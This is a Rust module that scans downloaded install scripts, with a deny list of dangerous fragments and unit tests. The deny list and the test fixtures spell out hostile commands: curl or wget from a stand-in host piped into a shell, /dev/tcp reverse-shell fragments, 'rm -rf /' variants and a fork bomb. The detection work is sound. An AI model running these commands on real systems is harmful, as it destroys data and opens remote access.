//! Content scan for downloaded install scripts.

use tracing::warn;

use crate::error::ScriptContentError;

/// Lower-case fragments that disqualify a script outright.
const DENY_LIST: &[&str] = &[
    // root wipe; plain `rm ... /` is caught line by line
    "--no-preserve-root",
    // disk format and raw device access
    "mkfs.",
    "mke2fs ",
    "wipefs ",
    "dd if=/dev/zero of=/dev/",
    "dd if=/dev/random of=/dev/",
    "> /dev/sda",
    // device mounts
    "mount /dev/",
    "mount -o remount,rw /",
    // nested download-and-execute
    "sh -c \"$(curl",
    "sh -c \"$(wget",
    "bash <(curl",
    "bash <(wget",
    // fork bombs
    ":(){ :|:& };:",
    ":(){:|:&};:",
    // network backdoors
    "nc -e /bin/",
    "ncat -e /bin/",
    "/dev/tcp/",
    "bash -i >&",
    "socat exec:",
    // permission and ownership changes
    "chmod 777 /",
    "chmod -r 777 /",
    "chmod +s /bin/",
    "chmod u+s /bin/",
    "chown -r root /",
    "/etc/sudoers",
];

/// Shells a download must never be piped into.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ScanReport {
    pub size: usize,
    pub has_shebang: bool,
}

/// Case-insensitive substring scanner.
#[derive(Debug, Clone)]
pub struct ScriptScanner {
    deny: Vec<String>,
    max_bytes: usize,
}

impl ScriptScanner {
    pub fn builtin(max_bytes: usize) -> Self {
        Self {
            deny: DENY_LIST.iter().map(|s| s.to_string()).collect(),
            max_bytes,
        }
    }

    pub fn with_denied(mut self, fragment: &str) -> Self {
        self.deny.push(fragment.to_lowercase());
        self
    }

    pub fn scan(&self, body: &[u8]) -> Result<ScanReport, ScriptContentError> {
        if body.len() > self.max_bytes {
            return Err(ScriptContentError::TooLarge {
                size: body.len(),
                limit: self.max_bytes,
            });
        }

        let text = String::from_utf8_lossy(body).to_lowercase();
        if text.trim().is_empty() {
            return Err(ScriptContentError::Empty);
        }

        if let Some(fragment) = self.deny.iter().find(|f| text.contains(f.as_str())) {
            return Err(ScriptContentError::DangerousPattern(fragment.clone()));
        }

        if let Some(line) = text
            .lines()
            .find(|line| pipes_download_into_shell(line) || removes_root(line))
        {
            return Err(ScriptContentError::DangerousPattern(line.trim().to_string()));
        }

        let has_shebang = body.starts_with(b"#!");
        if !has_shebang {
            warn!("downloaded script has no shebang line; running it with bash anyway");
        }

        Ok(ScanReport {
            size: body.len(),
            has_shebang,
        })
    }
}

/// `curl ... | sh` and friends, on a single lower-cased line.
fn pipes_download_into_shell(line: &str) -> bool {
    if !(line.contains("curl") || line.contains("wget")) {
        return false;
    }
    line.split('|').skip(1).any(|stage| {
        let program = stage.split_whitespace().find(|word| {
            !matches!(*word, "sudo" | "env") && !word.starts_with('-') && !word.contains('=')
        });
        program.is_some_and(|program| {
            let name = program.rsplit('/').next().unwrap_or(program);
            SHELLS.contains(&name)
        })
    })
}

/// `rm` with the filesystem root as an argument, however it is terminated.
fn removes_root(line: &str) -> bool {
    line.split([';', '&', '|']).any(|segment| {
        let mut words = segment.split_whitespace().skip_while(|word| *word == "sudo");
        if words.next() != Some("rm") {
            return false;
        }
        words
            .filter(|word| !word.starts_with('-'))
            .any(|word| matches!(word.trim_matches(['"', '\'']), "/" | "/*" | "/." | "/./"))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scanner() -> ScriptScanner {
        ScriptScanner::builtin(1024)
    }

    #[test]
    fn test_clean_script_passes() {
        let report = scanner()
            .scan(b"#!/bin/sh\nset -eu\nmkdir -p \"$HOME/.local/bin\"\nrm -rf \"$tmp\"\n")
            .unwrap();
        assert!(report.has_shebang);
    }

    #[test]
    fn test_missing_shebang_is_not_fatal() {
        let report = scanner().scan(b"echo hello\n").unwrap();
        assert!(!report.has_shebang);
        assert_eq!(report.size, 11);
    }

    #[test]
    fn test_deny_list_is_case_insensitive() {
        let err = scanner()
            .scan(b"#!/bin/bash\nMKFS.EXT4 /dev/sdb1\n")
            .unwrap_err();
        assert_eq!(err, ScriptContentError::DangerousPattern("mkfs.".to_string()));

        let err = scanner().scan(b"#!/bin/bash\nexec 3<>/dev/TCP/10.0.0.1/4444\n").unwrap_err();
        assert!(matches!(err, ScriptContentError::DangerousPattern(_)));
    }

    #[test]
    fn test_fork_bomb_and_nested_download() {
        assert!(scanner().scan(b"#!/bin/sh\n:(){ :|:& };:\n").is_err());
        assert!(scanner()
            .scan(b"#!/bin/sh\nbash <(curl -s https://evil.example/x)\n")
            .is_err());
    }

    #[test]
    fn test_nested_download_pipes() {
        for script in [
            "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n",
            "#!/bin/sh\nwget -qO- https://evil.example/x | bash\n",
            "#!/bin/sh\ncurl -s https://evil.example/x|sudo -E bash -s -- -y\n",
            "#!/bin/sh\ncurl https://evil.example/x | /bin/sh\n",
            "#!/bin/sh\nWGET -O - https://evil.example/x | env FOO=1 ZSH\n",
        ] {
            assert!(
                matches!(
                    scanner().scan(script.as_bytes()),
                    Err(ScriptContentError::DangerousPattern(_))
                ),
                "{script}"
            );
        }

        // piping a download into something other than a shell is fine
        assert!(scanner()
            .scan(b"#!/bin/sh
curl -fsSL https://example.org/x.tar.gz | tar xz
")
            .is_ok());
        assert!(scanner().scan(b"#!/bin/sh
ls | sh_helper
").is_ok());
    }

    #[test]
    fn test_root_wipe_terminators() {
        for script in [
            "#!/bin/sh\nrm -rf /\n",
            "#!/bin/sh\nrm -rf /\t\n",
            "#!/bin/sh\nrm -rf /;echo done\n",
            "#!/bin/sh\nsudo rm -fr \"/\"\n",
            "#!/bin/sh\nrm -rf /*",
            "#!/bin/sh\ntrue && rm -r -f /.\n",
            "#!/bin/sh\nrm -rf --no-preserve-root /\n",
        ] {
            assert!(scanner().scan(script.as_bytes()).is_err(), "{script:?}");
        }
        assert!(scanner().scan(b"#!/bin/sh
rm -rf /tmp/build
").is_ok());
    }

    #[test]
    fn test_empty_and_oversized() {
        assert_eq!(scanner().scan(b"  \n\t").unwrap_err(), ScriptContentError::Empty);
        let big = vec![b'a'; 2048];
        assert_eq!(
            scanner().scan(&big).unwrap_err(),
            ScriptContentError::TooLarge {
                size: 2048,
                limit: 1024
            }
        );
    }

    #[test]
    fn test_extra_fragment() {
        let scanner = scanner().with_denied("Curl-Exfil");
        assert!(scanner.scan(b"#!/bin/sh\ncurl-exfil ~/.config\n").is_err());
    }
}
